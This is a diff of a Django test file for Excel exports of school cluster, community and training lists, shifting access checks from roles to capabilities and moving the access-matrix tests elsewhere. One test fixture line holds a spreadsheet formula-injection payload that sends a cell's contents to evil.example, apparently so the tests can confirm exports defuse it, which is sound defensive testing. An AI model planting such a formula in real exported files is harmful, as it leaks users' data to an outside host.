@@ -34,7 +34,7 @@ pytestmark = pytest.mark.django_db
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
 THIS_YEAR = timezone.localdate().year
 
-# export URL name → its list page; the export answers every persona exactly as the page does.
+# export URL name → its list page; the export asks the page's capability (who gets what: tests/test_access_matrix.py).
 EXPORTS = {
     "cluster_export": "cluster_list",
     "community_export": "community_list",
@@ -59,22 +59,6 @@ HEADERS = {
     "event_export": ["Дата проведения", "Мероприятие", "Форма", "Уровень", "Организаторы", "Кластер",
                      "Сообщество", "Участников"],
 }
-# Who may open the list (and so the export): persona → status.
-CLUSTER_READERS = {"methodist": 200, "director": 200, "observer": 200, "school_admin": 200,
-                   "other_school_admin": 200, "other_methodist": 200, "portal_admin": 403}
-DISTRICT_READERS = {**CLUSTER_READERS, "school_admin": 403, "other_school_admin": 403}
-STAFF_READERS = {**CLUSTER_READERS, "observer": 403}
-ACCESS = {
-    "cluster_export": CLUSTER_READERS,
-    "community_export": DISTRICT_READERS,
-    "training_export": STAFF_READERS,
-    "training_program_export": STAFF_READERS,
-    "route_export": STAFF_READERS,
-    "mentorship_export": STAFF_READERS,
-    "innovation_export": DISTRICT_READERS,
-    "event_export": DISTRICT_READERS,
-}
-
 
 def d(text: str) -> datetime.datetime:
     """A date as openpyxl reads it back: a datetime at midnight."""
@@ -374,11 +358,11 @@ def test_a_foreign_organisation_in_the_filter_exports_nothing(school_admin_clien
 
 
 @pytest.mark.parametrize("name", EXPORTS)
-def test_export_takes_roles_and_filter_from_its_list_page(name):
+def test_export_takes_capability_and_filter_from_its_list_page(name):
     export_view = resolve(reverse(f"clusters:{name}")).func.view_class
     list_view = resolve(reverse(f"clusters:{EXPORTS[name]}")).func.view_class
 
-    assert export_view.allowed_roles == list_view.allowed_roles
+    assert export_view.capability == list_view.capability
     assert export_view.filterset_class is list_view.filterset_class
 
 
@@ -394,28 +378,6 @@ def test_school_admin_gets_the_cluster_export_button_but_not_the_district_member
 
     assert reverse("clusters:cluster_export") in page
     assert reverse("clusters:membership_export") not in page
-
-
-# --- who gets what -----------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize("name", EXPORTS)
-def test_each_persona_gets_the_file_or_403_like_the_list_page(request, login, registry, name):
-    for persona, status in ACCESS[name].items():
-        client = login(request.getfixturevalue(persona))
-        response = export(client, name)
-        assert response.status_code == status, persona
-        assert client.get(reverse(f"clusters:{EXPORTS[name]}")).status_code == status, persona
-        if status == 200:
-            assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
-
-
-@pytest.mark.parametrize("name", EXPORTS)
-def test_anonymous_is_sent_to_login(client, name):
-    response = export(client, name)
-
-    assert response.status_code == 302
-    assert response.url.startswith(reverse("login"))
 
 
 # District B's methodist sees only district B's rows (the catalogue of programmes is shared).
